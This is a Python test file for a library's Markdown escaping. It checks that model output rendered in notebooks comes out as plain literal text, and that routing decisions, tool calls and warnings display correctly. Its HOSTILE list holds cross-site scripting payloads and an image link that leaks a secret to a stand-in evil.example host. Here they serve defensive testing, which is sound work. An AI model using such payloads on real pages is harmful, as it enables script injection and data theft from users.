"""In a notebook the texts of a model are texts: a renderer of Markdown makes nothing else of them."""

from __future__ import annotations

import html
import re
import unicodedata
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from hybrid_llm import HybridLLM
from hybrid_llm.core.generation import AnswerWarning
from hybrid_llm.core.markdown import literal
from hybrid_llm.core.request import Location
from hybrid_llm.core.tools import ToolCall
from hybrid_llm.policies import parse_policy
from tests.fakes import FakeBackend

RENDERER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
HOSTILE = [
    "<script>alert(1)</script>",
    "a <img src=x onerror=alert(1)>",
    "![x](http://evil.example/?secret=1)",
    "[a](javascript:alert(1))",
    "[x]: http://evil.example\n[x]",
    "<http://evil.example>",
    "`code` **bold** _em_ ~~gone~~ $x$ \\(y\\)",
    "# head\n---\n- item\n1. one\n> quote\n```\nfence\n```\n    code\n\tcode",
    "| a | b |\n|---|---|\n| c | d |",
    "&lt;script&gt; &amp; &#60;b&#62;",
    "a\\\nb",
]


def shown(markdown: str) -> str:
    """The text that a reader sees; whatever is not a text in a paragraph fails."""
    page = RENDERER.render(markdown)
    assert set(re.findall(r"</?([a-z0-9]+)", page)) <= {"p", "br"}, page
    return html.unescape(re.sub(r"<br />|</?p>", "", page))


def words(text: str) -> list[str]:
    lines = [line.strip(" ") for line in text.expandtabs(4).splitlines()]
    kept = ["\ufffd" if unicodedata.category(each) in ("Cc", "Cs") else each for each in " ".join(lines)]
    return "".join(kept).split()


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_is_shown_as_it_is(text):
    assert shown(literal(text)).split() == words(text)


@given(st.text() | st.text("<>&\\`*_[]()!#-+.|~$:/\n\t 1a\"'", max_size=40))
def test_every_text_is_shown_as_it_is_and_nothing_else(text):
    assert shown(literal(text)).split() == words(text)


def test_lines_and_indents_stay():
    assert literal("a\n  b\n\n\tc") == "a  \n&nbsp;&nbsp;b  \n  \n&nbsp;&nbsp;&nbsp;&nbsp;c"


def test_an_answer_and_its_decision_are_shown_with_who_answered_and_why():
    rules = "rules: [{prefer: [edge, cloud], because: the device first}]"
    policy = f"version: 1\nname: p\ntags: {{phi: {{allow: [edge]}}}}\n{rules}\n"
    backends = [FakeBackend("edge", Location.EDGE, ["<b>hi</b>"]), FakeBackend("cloud", Location.CLOUD)]
    with HybridLLM(backends, parse_policy(policy)) as llm:  # type: ignore[arg-type]
        reply = llm.generate("x", privacy={"phi"})
    page = RENDERER.render(reply._repr_markdown_())
    assert "&lt;b&gt;hi&lt;/b&gt;" in page
    assert "edge: the device first (4 tokens" in page
    assert "<b>" not in repr(reply)
    table = RENDERER.render(reply.decision._repr_markdown_())
    assert "<td>edge</td>\n<td>1.</td>" in table
    assert "<td>cloud</td>\n<td>tag phi allows only edge</td>" in table
    call = ToolCall(id="1", name="send", arguments='{"to": "<i>"}')
    warned = AnswerWarning(code="pseudonym_mangled", kind="EMAIL", count=2)
    page = RENDERER.render(replace(reply, text="", tool_calls=(call,), warnings=(warned,))._repr_markdown_())
    assert "calls send({&quot;to&quot;: &quot;&lt;i&gt;&quot;})" in page
    assert "pseudonym_mangled: 2 EMAIL" in page
